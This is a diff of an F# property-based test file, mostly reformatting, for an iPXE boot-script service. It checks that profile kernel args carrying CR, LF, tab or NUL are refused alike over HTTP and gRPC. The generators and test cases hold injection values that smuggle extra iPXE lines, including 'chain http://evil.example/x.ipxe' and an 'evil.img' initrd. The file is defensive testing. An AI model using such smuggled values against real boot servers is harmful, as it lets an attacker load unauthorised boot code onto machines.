@@ -17,7 +17,8 @@ let private source = "/ipxe?mac=52:54:00:aa:bb:cc"
 let private httpBase: Plan.HttpBase = { Host = "mb"; Port = 8080 }
 
 let private labels =
-    Labels.fromLookups [ "mac=52:54:00:aa:bb:cc"; "uuid=5eb0a0a4-0c6b-4b9a-9d3e-2f6a1c7b8d90"; "name=fcos-1"; "os=installed" ]
+    Labels.fromLookups
+        [ "mac=52:54:00:aa:bb:cc"; "uuid=5eb0a0a4-0c6b-4b9a-9d3e-2f6a1c7b8d90"; "name=fcos-1"; "os=installed" ]
     |> Expect.ok "labels"
 
 let private profileOf (boot: Boot) : Plan.UnvalidatedProfile =
@@ -46,9 +47,25 @@ let private spaced = Gen.elements [ "quiet splash"; "a=1 b=2"; "root=LABEL=root 
 /// writes, markers, blanks.
 let private piece =
     Gen.elements
-        [ "initrd /assets/evil.img"; "initrd --name main /assets/evil.img"; "initrd /assets/evil.img "; "initrd "
-          "initrd /a /b"; "boot"; "boot "; "kernel /assets/other"; "chain http://evil.example/x.ipxe"; "#!ipxe"
-          "echo hi"; ""; " "; "x=1"; "console=hvc0"; "{{ .uuid }}"; "{{"; "}}"; "${mac:hexhyp}" ]
+        [ "initrd /assets/evil.img"
+          "initrd --name main /assets/evil.img"
+          "initrd /assets/evil.img "
+          "initrd "
+          "initrd /a /b"
+          "boot"
+          "boot "
+          "kernel /assets/other"
+          "chain http://evil.example/x.ipxe"
+          "#!ipxe"
+          "echo hi"
+          ""
+          " "
+          "x=1"
+          "console=hvc0"
+          "{{ .uuid }}"
+          "{{"
+          "}}"
+          "${mac:hexhyp}" ]
 
 /// An arg with at least one control character: CR, LF or CRLF between pieces mostly, a tab or a
 /// NUL sometimes.
@@ -56,7 +73,16 @@ let private hostileArg =
     gen {
         let! pieces = Gen.nonEmptyListOf piece |> Gen.map (List.truncate 4)
         let! first = piece
-        let! breaks = Gen.listOfLength pieces.Length (Gen.frequency [ 4, Gen.constant "\n"; 2, Gen.constant "\r"; 2, Gen.constant "\r\n"; 1, Gen.constant "\n\n"; 1, Gen.constant "\t"; 1, Gen.constant "\000" ])
+        let! breaks =
+            Gen.listOfLength
+                pieces.Length
+                (Gen.frequency
+                    [ 4, Gen.constant "\n"
+                      2, Gen.constant "\r"
+                      2, Gen.constant "\r\n"
+                      1, Gen.constant "\n\n"
+                      1, Gen.constant "\t"
+                      1, Gen.constant "\000" ])
         return first + String.concat "" (List.map2 (+) breaks pieces)
     }
 
@@ -93,16 +119,21 @@ let ``a profile rendered into /ipxe gets the verdict gRPC gives it, or is byte f
                 | Ok parsed ->
                     let injected = style = PerLine && boot.Args |> List.exists (fun a -> a.Contains '\n')
                     Expect.isTrue $"{Expect.escaped script}: HTTP %A{overHttp}, gRPC %A{overGrpc}" injected
-                    Expect.isTrue "the parsed args hold no control character" (not (List.exists hasControl parsed.Args))
+                    Expect.isTrue
+                        "the parsed args hold no control character"
+                        (not (List.exists hasControl parsed.Args))
                     let again = render style { Kernel = boot.Kernel; Initrds = parsed.Initrds; Args = parsed.Args }
                     Expect.equalText script again
-                | Error error -> Expect.fail $"{Expect.escaped script}: HTTP {code error} ({describe error}), gRPC %A{overGrpc}"
+                | Error error ->
+                    Expect.fail $"{Expect.escaped script}: HTTP {code error} ({describe error}), gRPC %A{overGrpc}"
         lazy (check ())
         |> Prop.classify (overHttp <> overGrpc) "ambiguous: injected initrd lines"
         |> Prop.classify (Result.isError overGrpc) "refused")
 
 [<Property(MaxTest = 200)>]
-let ``args with a CR, LF, tab or NUL are refused over HTTP as over gRPC, with XMB-315, unless read as another profile`` () =
+let ``args with a CR, LF, tab or NUL are refused over HTTP as over gRPC, with XMB-315, unless read as another profile``
+    ()
+    =
     Prop.forAll (arb (boot hostileArg |> Gen.filter (fun (_, b) -> not b.Args.IsEmpty))) (fun (style, boot) ->
         match Ipxe.parse source (render style boot) |> Result.bind plan with
         | Error error -> Expect.equalText "XMB-315" (code error)
@@ -113,21 +144,25 @@ let ``args with a CR, LF, tab or NUL are refused over HTTP as over gRPC, with XM
 let private limitArgs =
     Gen.oneof
         [ gen {
-            let! count = Gen.choose (Limits.MaxProfileArgs - 2, Limits.MaxProfileArgs + 2)
-            return List.init count (fun i -> $"a{i % 10}")
+              let! count = Gen.choose (Limits.MaxProfileArgs - 2, Limits.MaxProfileArgs + 2)
+              return List.init count (fun i -> $"a{i % 10}")
           }
           gen {
-            let! extra = Gen.choose (-2, 2)
-            let size = Limits.MaxProfileArgsBytes + extra
-            let! parts = Gen.choose (1, 3)
-            return List.init parts (fun i -> String.replicate (size / parts + (if i = 0 then size % parts else 0)) "a")
+              let! extra = Gen.choose (-2, 2)
+              let size = Limits.MaxProfileArgsBytes + extra
+              let! parts = Gen.choose (1, 3)
+              return
+                  List.init parts (fun i -> String.replicate (size / parts + (if i = 0 then size % parts else 0)) "a")
           } ]
 
 [<Property(MaxTest = 40)>]
 let ``the arg count and size limits apply over HTTP as over gRPC`` () =
     Prop.forAll (arb (Gen.zip limitArgs (Gen.elements [ PerLine; LegacyOneLine ]))) (fun (args, style) ->
         let boot = { Kernel = "/assets/k"; Initrds = [ "/assets/i" ]; Args = args }
-        Expect.equal $"{args.Length} args of {args |> List.sumBy System.Text.Encoding.UTF8.GetByteCount} bytes" (grpc boot) (http style boot))
+        Expect.equal
+            $"{args.Length} args of {args |> List.sumBy System.Text.Encoding.UTF8.GetByteCount} bytes"
+            (grpc boot)
+            (http style boot))
 
 // ---- hostile scripts, by example ----
 
@@ -162,7 +197,9 @@ let private refused (script: string) =
 [<InlineData("#!ipxe\nkernel /k x\nchain http://evil/x.ipxe\n", "XMB-211", "line 3")>]
 [<InlineData("#!ipxe\nkernel /k\nboot\nchain http://evil/x.ipxe\n", "XMB-211", "line 4")>]
 [<InlineData("#!ipxe\nchain http://evil/x.ipxe\nkernel /k\nboot\n", "XMB-211", "line 2")>]
-let ``a hostile script is refused, with XMB-315 when a profile's arg wrote lines of its own`` (script: string, expectedCode: string, fragment: string) =
+let ``a hostile script is refused, with XMB-315 when a profile's arg wrote lines of its own``
+    (script: string, expectedCode: string, fragment: string)
+    =
     let actual, text = refused script
     Expect.equalText expectedCode actual
     Expect.isTrue $"'{text}' names '{fragment}'" (text.Contains fragment)
